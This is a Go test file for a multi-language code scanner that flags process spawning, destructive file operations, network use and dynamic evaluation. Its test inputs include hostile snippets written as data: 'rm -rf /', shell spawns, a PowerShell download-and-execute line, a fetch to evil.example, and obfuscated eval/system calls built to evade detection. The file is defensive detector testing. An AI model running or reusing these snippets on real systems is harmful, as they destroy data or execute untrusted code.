package codescan

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

type scanCase struct {
	lang  string
	code  string
	flags string   // subset of "SDNY": Spawns, Destructive, Network, Dynamic
	lits  []string // expected literals; nil means "not checked", []string{} means none
}

func flagsOf(f Findings) string {
	s := ""
	if f.Spawns {
		s += "S"
	}
	if f.Destructive {
		s += "D"
	}
	if f.Network {
		s += "N"
	}
	if f.Dynamic {
		s += "Y"
	}
	return s
}

var scanCases = []scanCase{
	// ---- python ----
	{"python3", `import os; os.system("rm -rf /")`, "S", []string{"rm -rf /"}},
	{"python3", `import subprocess; subprocess.run(["ls", "-l"])`, "S", []string{"ls", "-l"}},
	{"python", `import shutil; shutil.rmtree("/tmp/x")`, "D", []string{"/tmp/x"}},
	{"python", `import os; os.remove("f")`, "D", nil},
	{"python", `os.unlink(path)`, "D", []string{}},
	{"python", `unlinked_list = []; unlink_count = 0`, "", []string{}},
	{"python", `open("f", "w").write("x")`, "D", []string{"f", "w", "x"}},
	{"python", `print(open("f").read())`, "", []string{"f"}},
	{"python", `open("f", "rb")`, "", nil},
	{"python", `open(p, mode="a")`, "D", nil},
	{"python", `with open(os.path.join(a, b), "w+") as f: pass`, "D", nil},
	{"python", `print(x, "a")`, "", []string{"a"}},
	{"python", `from pathlib import Path; Path("x").write_text("y")`, "D", nil},
	{"python", `Path("x").unlink()`, "D", nil},
	{"python", `Path("x").open("w")`, "D", nil},
	{"python", `import urllib.request; urllib.request.urlopen(u)`, "N", nil},
	{"python", `import requests; requests.get(u)`, "N", nil},
	{"python", `n_requests = 3; print(n_requests)`, "", nil},
	{"python", `import socket; s = socket.socket(); s.connect(("1.2.3.4", 80))`, "N", nil},
	{"python", `import sqlite3; c = sqlite3.connect("db.sqlite")`, "", []string{"db.sqlite"}},
	{"python", `exec("print(1)")`, "Y", []string{"print(1)"}},
	{"python", `eval(input())`, "Y", nil},
	{"python", `import re; re.compile("a").match("b")`, "", nil},
	{"python", `__import__("os").system("id")`, "SY", nil},
	{"python", `getattr(__import__("o"+"s"), "sys" + "tem")("id")`, "Y", nil},
	{"python", `import os; getattr(os, "system")("id")`, "SY", nil},
	{"python", `import base64; exec(base64.b64decode("cHJpbnQoMSk="))`, "Y", nil},
	{"python", `import base64; print(base64.b64decode(x))`, "", nil},
	{"python", `import base64, os; os.popen(base64.b64decode(x))`, "SY", nil},
	{"python", `import platform; print(platform.system())`, "", []string{}},
	{"python", `ｅｘｅｃ("print(1)")`, "Y", nil},
	{"python", "import os\n𝐨𝐬.𝐬𝐲𝐬𝐭𝐞𝐦(\"id\")", "SY", nil},
	{"python", `print("héllo") # café`, "", []string{"héllo"}},
	{"python", `import os; os.execvp("sh", ["sh"])`, "S", nil},
	{"python", `import pty; pty.spawn("/bin/sh")`, "S", nil},
	{"python", `import os; os.popen("ls").read()`, "S", nil},
	{"python", `import asyncio; asyncio.create_subprocess_shell("ls")`, "S", nil},
	{"python", `from os import system as s; s("id")`, "S", nil},
	{"python", `print('a\x41\u0042\n\t\\')`, "", []string{"aAB\n\t\\"}},
	{"python", `print('\N{BULLET} \q')`, "", []string{`\N{BULLET} \q`}},
	{"python", `print(r'\x41', R"\n")`, "", []string{`\x41`, `\n`}},
	{"python", "print(\"\"\"multi\nline 'q' \"x\" \"\"\")", "", []string{"multi\nline 'q' \"x\" "}},
	{"python", `print(b'bytes', f'{x} y', rb'\d', u'\U0001F600')`, "", []string{"bytes", "{x} y", `\d`, "😀"}},
	{"python", "x = 1 # it's a comment\nimport os; os.system(\"rm -rf /\")", "S", []string{"rm -rf /"}},
	{"python", "x = 'unterminated\nos.system(\"y\")", "S", []string{"unterminated", "y"}},
	{"python", `import pickle; pickle.loads(data)`, "Y", nil},
	{"python", `import os; os.chmod("/etc/x", 0o777)`, "D", nil},
	{"python", `__builtins__.__dict__["ex"+"ec"]("x")`, "Y", nil},
	{"python", `print("\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d(1)")`, "S", []string{"os.system(1)"}},
	{"python", `fetch = 1; connect = 2`, "", nil},
	{"python", `import webbrowser; webbrowser.open("https://x")`, "N", nil},
	{"python", `print("see https://example.com")`, "", nil},
	{"python", `print("https://example.com")`, "N", nil}, // conservative: URL literals count
	{"python", `os.system`, "S", nil},
	{"python", `import os; os.rename("a", "b")`, "D", nil},
	{"python", `print(text.replace("a", "b"))`, "", nil},
	{"python", `items.remove(3)`, "", nil},
	{"python3.12", `exec(code)`, "Y", nil},
	{"/usr/local/bin/pypy3", `compile(src, "f", "exec")`, "Y", nil},

	// ---- JavaScript ----
	{"node", `require('child_process').execSync('rm -rf /')`, "S", []string{"child_process", "rm -rf /"}},
	{"node", `const {exec} = require("child_process"); exec("ls")`, "S", nil},
	{"node", `const cp = require("node:child_process"); cp.spawn("ls")`, "S", nil},
	{"node", `console.log(/a/.exec("abc"))`, "", []string{"abc"}},
	{"node", `const re = /x/g; re.exec(s)`, "", []string{}},
	{"node", `require('fs').rmSync('/tmp/x', {recursive: true})`, "D", nil},
	{"node", `fs.unlinkSync(p)`, "D", nil},
	{"node", `fs.writeFileSync("a", "b")`, "D", nil},
	{"node", `fs.promises.rm("x")`, "D", nil},
	{"node", `fs.openSync(p, 'w')`, "D", nil},
	{"node", `console.log(fs.readFileSync("a", "utf8"))`, "", nil},
	{"node", `fetch("https://evil.example/x")`, "N", nil},
	{"node", `await fetch(url)`, "N", nil},
	{"node", `git.fetch(); cache.fetch(key)`, "", nil},
	{"node", `require("net").connect(80, "h")`, "N", nil},
	{"node", `import http from "node:http"`, "N", nil},
	{"node", `new WebSocket(u)`, "N", nil},
	{"node", `eval("1+1")`, "Y", nil},
	{"node", `new Function("return 1")()`, "Y", nil},
	{"node", "console.log(`hello ${name} and ${'x'}`)", "", []string{"hello ${name} and ${'x'}"}},
	{"node", `require("child\x5fprocess").execSync("id")`, "S", []string{"child_process", "id"}},
	{"node", `require("\u0063hild_process")`, "S", nil},
	{"node", `\u0065val("x")`, "Y", nil},
	{"node", "const x = 'a' // it's\nrequire(\"fs\").rmSync(\"/\")", "D", []string{"a", "fs", "/"}},
	{"node", "/* it's */ let y = \"b\"", "", []string{"b"}},
	{"node", `class A { constructor(x) { this.x = x } }`, "", nil},
	{"node", `[].constructor.constructor("return process")()`, "Y", nil},
	{"node", `require(name)`, "Y", nil},
	{"node", `import(modName)`, "Y", nil},
	{"node", `setTimeout("alert(1)", 10)`, "Y", nil},
	{"node", `setTimeout(() => {}, 10)`, "", nil},
	{"node", `x = a / b; y = 'c' / 2`, "", []string{"c"}},
	{"node", `x = /'/.test(s); y = "z"`, "", []string{"z"}},
	{"node", `const t = "a\u{1F600}b\x41\0"`, "", []string{"a😀bA\x00"}},
	{"node", `process.binding('spawn_sync')`, "S", nil},
	{"node", `const {execa} = await import("execa")`, "S", nil},
	{"node", `globalThis.process.mainModule.require("x")`, "Y", nil},
	{"deno", `Deno.run({cmd: ["ls"]})`, "S", nil},
	{"deno", `new Deno.Command("ls").outputSync()`, "S", nil},
	{"deno", `await Deno.remove("x", {recursive: true})`, "D", nil},
	{"deno", `await Deno.writeTextFile("f", "x")`, "D", nil},
	{"bun", `Bun.spawn(["ls"])`, "S", nil},
	{"bun", "import {$} from 'bun'; await $`ls -la`", "S", nil},
	{"bun", `await Bun.write("f", "x")`, "D", nil},
	{"bun", `Bun.serve({fetch(req) { return new Response("hi") }})`, "N", nil},
	{"NODE.EXE", `eval(x)`, "Y", nil},

	// ---- perl ----
	{"perl", `system "rm -rf /"`, "S", []string{"rm -rf /"}},
	{"perl", `system("ls"); exec "ls"`, "S", []string{"ls"}},
	{"perl", "my $x = `ls -la`;", "S", []string{"ls -la"}},
	{"perl", `my $x = qx{ls -la};`, "S", []string{"ls -la"}},
	{"perl", `system { $prog } @args`, "S", nil},
	{"perl", `open(my $fh, ">", "out.txt")`, "D", []string{">", "out.txt"}},
	{"perl", `open(my $fh, "<", "in.txt") or die`, "", nil},
	{"perl", `open(F, ">$file")`, "D", nil},
	{"perl", `open(F, "ls |")`, "S", nil},
	{"perl", `open(my $p, "-|", "ls")`, "S", nil},
	{"perl", `unlink $file`, "D", nil},
	{"perl", `unlink("a.txt")`, "D", nil},
	{"perl", `print "system ok"`, "S", nil}, // conservative: reads like system ok
	{"perl", `my $system = 1; print $system;`, "", nil},
	{"perl", `eval { die "x" }; print $@`, "", nil},
	{"perl", `eval "print 1"`, "Y", nil},
	{"perl", `eval $code`, "Y", nil},
	{"perl", `use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "h:80")`, "N", nil},
	{"perl", `use LWP::Simple; get("http://x")`, "N", nil},
	{"perl", `use HTTP::Tiny; HTTP::Tiny->new->get($u)`, "N", nil},
	{"perl", `use File::Path qw(rmtree); rmtree("/tmp/x")`, "D", []string{"rmtree", "/tmp/x"}},
	{"perl", `my @a = qw(a b c);`, "", []string{"a", "b", "c"}},
	{"perl", `print q{it's}; print qq{x\ty};`, "", []string{"it's", "x\ty"}},
	{"perl", `$x =~ s/foo/bar/ee;`, "Y", nil},
	{"perl", `$x =~ s/'/"/g; print "ls"`, "", []string{"ls"}},
	{"perl", `$x =~ s{'}{"}g; print "ls"`, "", []string{"ls"}},
	{"perl", `$x =~ tr/'//d; print "a"`, "", []string{"a"}},
	{"perl", `if ($x =~ /'/) { print "b" }`, "", []string{"b"}},
	{"perl", "print <<\"EOF\";\nhello 'x'\nEOF\nsystem(\"id\")", "S", []string{"hello 'x'\n", "id"}},
	{"perl", "print <<'EOF';\nraw \\n\nEOF\n", "", []string{"raw \\n\n"}},
	{"perl", `&$code_ref();`, "Y", nil},
	{"perl", `chmod 0777, $file;`, "D", nil},
	{"perl", `print $#array; print "z"`, "", []string{"z"}},
	{"perl", "=pod\nit's doc\n=cut\nprint 'p';", "", []string{"p"}},
	{"perl", `print -s $file; print "q"`, "", []string{"q"}},
	{"perl", `my %h = (s => 1, y => 2); print "k"`, "", []string{"k"}},
	{"perl", `CORE::system("x")`, "S", nil},
	{"perl5.36", `readpipe("ls")`, "S", nil},

	// ---- ruby ----
	{"ruby", `system("ls")`, "S", nil},
	{"ruby", "puts `ls`", "S", []string{"ls"}},
	{"ruby", `puts %x(ls -la)`, "S", []string{"ls -la"}},
	{"ruby", `IO.popen("ls").read`, "S", nil},
	{"ruby", `require "open3"; Open3.capture2("ls")`, "S", nil},
	{"ruby", `exec "ls"`, "S", nil},
	{"ruby", `c = "rm -rf /"; system c`, "S", nil},
	{"ruby", `pid = spawn("ls")`, "S", nil},
	{"ruby", `Kernel.send(:system, "id")`, "SY", nil},
	{"ruby", `obj.public_send(name)`, "Y", nil},
	{"ruby", `open("| ls")`, "S", nil},
	{"ruby", `File.delete("x")`, "D", nil},
	{"ruby", `require "fileutils"; FileUtils.rm_rf("/")`, "D", nil},
	{"ruby", `require "fileutils"; FileUtils.mkdir_p("x")`, "", nil},
	{"ruby", `File.write("x", "y")`, "D", nil},
	{"ruby", `File.open("x", "w") { |f| f << "y" }`, "D", nil},
	{"ruby", `puts File.read("x")`, "", nil},
	{"ruby", `require 'net/http'; Net::HTTP.get(URI(u))`, "N", nil},
	{"ruby", `TCPSocket.new("h", 80)`, "N", nil},
	{"ruby", `require "open-uri"; URI.open(u).read`, "N", nil},
	{"ruby", `eval("1")`, "Y", nil},
	{"ruby", `instance_eval(str)`, "Y", nil},
	{"ruby", `h = {a: 1}; puts h.fetch(:a)`, "", nil},
	{"ruby", `puts "a#{"b"}c"`, "", []string{`a#{"b"}c`}},
	{"ruby", `puts %w[a b]; puts %q(x'y); puts %Q(y\n)`, "", []string{"a", "b", "x'y", "y\n"}},
	{"ruby", "x = <<~EOS\n  hi 'there'\n  EOS\nputs 'z'", "", []string{"  hi 'there'\n", "z"}},
	{"ruby", "=begin\nit's\n=end\nputs 'w'", "", []string{"w"}},
	{"ruby", `Object.const_get(:Kernel)`, "Y", nil},

	// ---- php ----
	{"php", `system("ls");`, "S", []string{"ls"}},
	{"php", `exec("ls");`, "S", nil},
	{"php", `echo shell_exec("ls");`, "S", nil},
	{"php", `passthru("ls");`, "S", nil},
	{"php", "echo `ls`;", "S", []string{"ls"}},
	{"php", `$f = "system"; $f("id");`, "SY", nil},
	{"php", `array_map('system', $cmds);`, "S", nil},
	{"php", `("sys"."tem")("id");`, "Y", nil},
	{"php", `proc_open($c, $d, $p);`, "S", nil},
	{"php", `unlink("x");`, "D", nil},
	{"php", `file_put_contents("f", "x");`, "D", nil},
	{"php", `$h = fopen("f", "w");`, "D", nil},
	{"php", `$h = fopen("f", "r");`, "", nil},
	{"php", `eval($code);`, "Y", nil},
	{"php", `assert($x);`, "Y", nil},
	{"php", `fsockopen("h", 80);`, "N", nil},
	{"php", `echo file_get_contents("http://x");`, "N", nil},
	{"php", `$c = curl_init();`, "N", nil},
	{"php", `echo 'it\'s \n'; echo "a\tb\q";`, "", []string{"it's \\n", "a\tb\\q"}},
	{"php", `echo "v={$a["k"]}"; # it's`, "", []string{`v={$a["k"]}`}},
	{"php", "echo <<<EOT\nhi\nEOT;\necho 'x';", "", []string{"hi\n", "x"}},
	{"php", `echo strlen("abc");`, "", nil},

	// ---- lua ----
	{"lua", `os.execute("ls")`, "S", []string{"ls"}},
	{"lua", `local p = io.popen("ls")`, "S", nil},
	{"lua", `os.remove("f")`, "D", nil},
	{"lua", `os.rename("a", "b")`, "D", nil},
	{"lua", `local f = io.open("f", "w")`, "D", nil},
	{"lua", `local f = io.open("f")`, "", nil},
	{"lua", `loadstring("x")()`, "Y", nil},
	{"lua", `load("return 1")()`, "Y", nil},
	{"lua", `local t = json.load(s)`, "", nil},
	{"lua", `local socket = require("socket")`, "N", nil},
	{"lua", `print([[long 'string']])`, "", []string{"long 'string'"}},
	{"lua", "-- comment it's\nprint(\"x\")", "", []string{"x"}},
	{"lua", "--[[ block it's ]] print('y')", "", []string{"y"}},
	{"lua", `print("\65\066\z   C")`, "", []string{"ABC"}},
	{"luajit", `print([==[a]]b]==])`, "", []string{"a]]b"}},

	// ---- PowerShell ----
	{"pwsh", `Invoke-Expression $x`, "Y", nil},
	{"pwsh", `iex (New-Object Net.WebClient).DownloadString('http://x')`, "NY", nil},
	{"pwsh", `Remove-Item -Recurse -Force C:\x`, "D", nil},
	{"pwsh", `rm -r x`, "D", nil},
	{"pwsh", `Get-ChildItem | Select-Object Name`, "", nil},
	{"pwsh", `Start-Process notepad`, "S", nil},
	{"pwsh", `Invoke-WebRequest https://x -OutFile y`, "N", nil},
	{"pwsh", `& "C:\tools\x.exe" -a`, "S", nil},
	{"pwsh", `$a -and $b; $x && $y`, "", nil},
	{"pwsh", "Write-Host 'it''s'; Write-Host \"a`tb\"", "", []string{"it's", "a\tb"}},
	{"pwsh", "Write-Host \"x $(Get-Date -Format \"yyyy\") y\"", "", []string{`x $(Get-Date -Format "yyyy") y`}},
	{"powershell", "INVOKE-EXPRESSION $c", "Y", nil},
	{"pwsh", `[ScriptBlock]::Create($s).Invoke()`, "Y", nil},
	{"pwsh", `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))`, "Y", nil},
	{"pwsh", "<# it's #> Write-Host 'v'", "", []string{"v"}},

	// ---- osascript ----
	{"osascript", `do shell script "rm -rf ~"`, "S", []string{"rm -rf ~"}},
	{"osascript", `tell application "Finder" to delete file "x"`, "D", nil},
	{"osascript", `tell application "Finder" to empty the trash`, "D", nil},
	{"osascript", `display dialog "it's fine"`, "", []string{"it's fine"}},
	{"osascript", `open location "http://x"`, "N", nil},
	{"osascript", `run script "x"`, "Y", nil},
	{"osascript", `Do Shell Script "ls"`, "S", nil},
	{"osascript", "-- do shell script\n(* it's *) display dialog \"ok\"", "S", []string{"ok"}}, // conservative: comments are scanned
	{"osascript", `var app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript('ls')`, "S", []string{"ls"}},

	// ---- more attacker-minded and near-miss cases ----
	{"python", `from os import path, system; system("id")`, "S", nil},
	{"python", `cursor.execute("select 1")`, "", nil},
	{"python", `import ctypes; ctypes.CDLL(None).system(b"id")`, "SY", nil},
	{"python", `import asyncio; asyncio.open_connection("h", 80)`, "N", nil},
	{"python", `from http.client import HTTPSConnection`, "N", nil},
	{"python", `import importlib; importlib.import_module("subprocess")`, "SY", nil},
	{"python", `import sys; sys.modules["os"].system("x")`, "S", nil},
	{"node", `global['ev'+'al']('x')`, "Y", nil},
	{"node", `globalThis["eval"]("x")`, "Y", nil},
	{"node", `const {rm} = require("fs/promises"); await rm(p, {recursive: true})`, "D", nil},
	{"node", `new vm.Script("x").runInThisContext()`, "Y", nil},
	{"node", `require('fs').promises.unlink(p)`, "D", nil},
	{"node", `const arr = [1, 2]; arr.filter(x => x > 1)`, "", nil},
	{"lua", `require("os").execute("id")`, "S", nil},
	{"lua", `os["execute"]("id")`, "S", nil},
	{"php", `preg_replace('/x/e', $r, $s);`, "Y", nil},
	{"php", `preg_replace('/x/i', 'y', $s);`, "", nil},
	{"php", `$_GET['c']($_GET['a']);`, "Y", nil},
	{"php", `call_user_func('system', 'id');`, "SY", nil},
	{"perl", `do $file;`, "Y", nil},
	{"perl", `do { 1 } while (0);`, "", nil},
	{"perl", `require $mod;`, "Y", nil},
	{"perl", `require Foo::Bar;`, "", nil},
	{"perl", `&{"CORE::GLOBAL::sys"."tem"}("id")`, "Y", nil},
	{"perl", `my @c = ("rm", "-rf"); system @c`, "S", nil},
	{"perl", `open(my $fh, "|-", "sh")`, "S", nil},
	{"ruby", `Kernel.method(:system).call("id")`, "S", nil},
	{"ruby", "Kernel.`(\"ls\")", "S", nil},
	{"ruby", `Process.spawn("ls")`, "S", nil},

	{"node", `require("child_" + "process").exec("x")`, "Y", nil},
	{"node", `require("fs", x)`, "", nil},
	{"node", `[]["filter"]["constructor"]("code")()`, "Y", nil},
	{"node", `process['binding']('spawn_sync')`, "SY", nil},
	{"ruby", `Kernel.method("sys" + "tem").call("id")`, "Y", nil},
	{"ruby", `[1].each(&method(:puts))`, "", nil},
	{"php", `${'f'}('id');`, "Y", nil},
	{"lua", `_G["os"]["exec".."ute"]("id")`, "Y", nil},
	{"pwsh", `& ("i"+"ex") $x`, "S", nil},
	{"pwsh", `$x | iex`, "Y", nil},

	{"python", `import torch; model.eval()`, "", nil},
	{"python", `f = eval; f(s)`, "Y", nil},
	{"node", `(0, eval)(s)`, "Y", nil},
	{"ruby", `send(name, arg)`, "Y", nil},
	{"ruby", `send :system, "id"`, "SY", nil},

	// ---- generic ----
	{"tclsh", `exec ls -la`, "S", nil},
	{"tclsh", "puts `ls`", "S", nil},
	{"Rscript", `system("ls")`, "S", nil},
	{"Rscript", `x <- eval(parse(text = s))`, "Y", nil},
	{"Rscript", `print("hello")`, "", []string{"hello"}},
	{"julia", `run(pipeline("x"))`, "", nil},
	{"awk", `unlink(x)`, "D", nil},
	{"unknown", `requests.get(u); os.system(c)`, "SN", nil},
	{"unknown", `rm(x)`, "", nil},
	{"", "", "", []string{}},
}

func TestScan(t *testing.T) {
	for _, tc := range scanCases {
		got := Scan(tc.lang, tc.code)
		if f := flagsOf(got); f != tc.flags {
			t.Errorf("Scan(%q, %q) flags = %q; want %q (literals %q)", tc.lang, tc.code, f, tc.flags, got.Literals)
		}
		if tc.lits != nil && !reflect.DeepEqual(nilIfEmpty(got.Literals), nilIfEmpty(tc.lits)) {
			t.Errorf("Scan(%q, %q).Literals = %q; want %q", tc.lang, tc.code, got.Literals, tc.lits)
		}
	}
}

func TestScanLiteralLimits(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 300; i++ {
		fmt.Fprintf(&b, "x%d = %q\n", i, fmt.Sprint("lit", i))
	}
	got := Scan("python", b.String())
	if len(got.Literals) != maxLiterals {
		t.Errorf("got %d literals; want %d", len(got.Literals), maxLiterals)
	}
	if got.Literals[0] != "lit0" || got.Literals[255] != "lit255" {
		t.Errorf("literals out of order: %q ... %q", got.Literals[0], got.Literals[255])
	}

	long := strings.Repeat("é", 3000) // 6000 bytes
	got = Scan("python", `x = "`+long+`"`)
	if len(got.Literals) != 1 || len(got.Literals[0]) != maxLiteral || got.Literals[0] != long[:maxLiteral] {
		t.Errorf("long literal: got %d literals, first %d bytes", len(got.Literals), len(got.Literals[0]))
	}
	got = Scan("python", `x = "a`+long+`"`) // the cut would split a rune
	if n := len(got.Literals[0]); n != maxLiteral-1 {
		t.Errorf("rune-aligned cap: got %d bytes; want %d", n, maxLiteral-1)
	}

	got = Scan("python", `print("a"); print("a"); print("b"); print("")`)
	if !reflect.DeepEqual(got.Literals, []string{"a", "b"}) {
		t.Errorf("dedup: got %q", got.Literals)
	}
}

// A dangerous call hidden far into an escaped literal is still found.
func TestScanEscapedLiteralBeyondCap(t *testing.T) {
	pad := strings.Repeat(`\x41`, 5000)
	code := `exec("` + pad + `\x5f\x5fimport\x5f\x5f('os').system('id')")`
	got := Scan("python", code)
	if !got.Spawns || !got.Dynamic {
		t.Errorf("got %s; want SY", flagsOf(got))
	}
}

func TestLangName(t *testing.T) {
	for in, want := range map[string]string{
		"python3.12":           "python",
		"/usr/bin/python3":     "python",
		`C:\Python\python.exe`: "python",
		"NODE":                 "node",
		"perl5.36.0":           "perl",
		"lua5.4":               "lua",
		"php8.2":               "php",
		"ts-node":              "ts-node",
		"":                     "",
	} {
		if got := langName(in); got != want {
			t.Errorf("langName(%q) = %q; want %q", in, got, want)
		}
	}
}
